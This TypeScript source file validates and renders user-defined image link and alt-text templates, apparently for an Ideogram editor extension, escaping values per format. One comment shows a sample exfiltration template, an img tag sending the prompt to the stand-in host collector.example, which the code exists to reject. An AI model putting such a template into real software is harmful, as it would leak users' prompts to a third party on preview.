// The user's own link and alt-text patterns (`ideogram.linkTemplates`, `ideogram.altTextTemplate`): variables are
// filled in with each format's escaping, so a template cannot produce a link that breaks.
import { IdeogramError } from './errors';
import { encodeLinkPath, plainAltText } from './linkText';
import { escapeHtmlAttribute, type ImageLinkParts, type LinkFormat } from './linkFormats';

export const LINK_TEMPLATE_VARIABLES = ['path', 'alt', 'width', 'height', 'prompt'] as const;
export const ALT_TEMPLATE_VARIABLES = ['prompt', 'fileName'] as const;

const VARIABLE = /\$\{([^}]*)\}/g;

/** Undefined when `template` is usable, else what is wrong with it (the host words it). */
export function checkTemplate(
  template: string,
  variables: readonly string[],
  setting: string,
): IdeogramError | undefined {
  if (template.trim() === '') return new IdeogramError({ kind: 'invalid-setting', reason: 'empty-template', setting });
  for (const match of template.matchAll(VARIABLE)) {
    if (!variables.includes(match[1] ?? '')) {
      return new IdeogramError({
        kind: 'invalid-setting',
        reason: 'unknown-template-variable',
        setting,
        value: template,
        variable: match[0],
        allowed: variables.map((name) => `\${${name}}`),
      });
    }
    // `<img src="https://collector.example/p.gif?q=${prompt}">` would send every prompt to a third party as soon as
    // a preview renders the link: text never goes into an address with a host.
    if (TEXT_VARIABLES.includes(match[1] ?? '') && REMOTE_ADDRESS_BEFORE.test(template.slice(0, match.index))) {
      return new IdeogramError({
        kind: 'invalid-setting',
        reason: 'remote-template',
        setting,
        value: template,
        variable: match[0],
      });
    }
  }
  return undefined;
}

/** The variables that carry the user's text (not the image's own path or size). */
const TEXT_VARIABLES: readonly string[] = ['prompt', 'alt', 'fileName'];
/** The text before a variable ends inside an address with a host (`scheme://…` or `//…`), not yet closed. */
const REMOTE_ADDRESS_BEFORE = /(?:[a-z][a-z0-9+.-]*:)?\/\/[^\s"'<>()[\]]*$/i;

/** True when the variable at `index` sits inside a double-quoted HTML attribute value: `src="${path}"`. */
function inHtmlAttribute(template: string, index: number): boolean {
  return /=\s*"[^"]*$/.test(template.slice(0, index));
}

/**
 * A link from the user's template for a format. Inside an HTML attribute (`alt="${alt}"`) values are
 * HTML-escaped; elsewhere they get the format's own escaping. `${prompt}` is the whole prompt on one line.
 */
export function renderLinkTemplate(
  template: string,
  format: LinkFormat,
  parts: ImageLinkParts & { prompt: string },
): string {
  return template.replace(VARIABLE, (whole, name: string, index: number) => {
    const attribute = inHtmlAttribute(template, index);
    const text = (value: string) => (attribute ? escapeHtmlAttribute(value) : format.escapeText(value));
    switch (name) {
      case 'path':
        return attribute ? escapeHtmlAttribute(encodeLinkPath(parts.path)) : format.encodePath(parts.path);
      case 'alt':
        return text(parts.alt);
      case 'prompt':
        return text(parts.prompt.replace(/\s+/g, ' ').trim());
      case 'width':
        return parts.width ? String(parts.width) : '';
      case 'height':
        return parts.height ? String(parts.height) : '';
      default:
        return whole;
    }
  });
}

/** The alt text from `ideogram.altTextTemplate`: plain text, one line, shortened like the prompt would be. */
export function renderAltText(
  template: string,
  values: Record<(typeof ALT_TEMPLATE_VARIABLES)[number], string>,
): string {
  const text = template.replace(VARIABLE, (whole, name: string) =>
    (ALT_TEMPLATE_VARIABLES as readonly string[]).includes(name) ? values[name as keyof typeof values] : whole,
  );
  return plainAltText(text);
}
